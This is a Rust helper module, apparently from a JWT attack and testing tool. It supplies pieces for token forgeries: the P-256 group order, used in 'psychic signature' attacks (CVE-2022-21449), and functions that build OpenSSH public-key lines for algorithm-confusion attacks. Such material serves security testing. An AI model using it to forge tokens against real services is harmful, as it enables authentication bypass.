//! Pieces forgeries are made of, shared by the generator and `jwtc attack` (jwtc-attack):
//! the P-256 group order (psychic signatures) and the OpenSSH public-key line a verifier
//! may be configured with (algorithm confusion).

use base64::Engine;

/// The order n of the P-256 group, big-endian: r or s = n is 0 mod n (CVE-2022-21449).
pub const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// An OpenSSH public-key line (`TYPE BASE64 COMMENT\n`, an `id_*.pub` file) whose blob is
/// `parts`, each length-prefixed (RFC 4253 §6.6, RFC 5656 §3.1).
pub fn openssh_line(kind: &str, parts: &[&[u8]], comment: &str) -> String {
    let mut blob = Vec::new();
    for part in std::iter::once(kind.as_bytes()).chain(parts.iter().copied()) {
        blob.extend_from_slice(&(part.len() as u32).to_be_bytes());
        blob.extend_from_slice(part);
    }
    format!(
        "{kind} {} {comment}\n",
        base64::engine::general_purpose::STANDARD.encode(blob)
    )
}

/// The OpenSSH line of a P-256 public key from its uncompressed point (`id_ecdsa.pub`).
pub fn openssh_p256(point: &[u8], comment: &str) -> String {
    openssh_line("ecdsa-sha2-nistp256", &[b"nistp256", point], comment)
}

/// The OpenSSH line of an RSA public key (`id_rsa.pub`): e and n as SSH mpints (a leading
/// zero byte when the top bit is set).
pub fn openssh_rsa(n: &[u8], e: &[u8], comment: &str) -> String {
    let mpint = |b: &[u8]| {
        let b = &b[b.iter().take_while(|x| **x == 0).count()..];
        if b.first().is_some_and(|x| x & 0x80 != 0) {
            [&[0u8][..], b].concat()
        } else {
            b.to_vec()
        }
    };
    openssh_line("ssh-rsa", &[&mpint(e), &mpint(n)], comment)
}
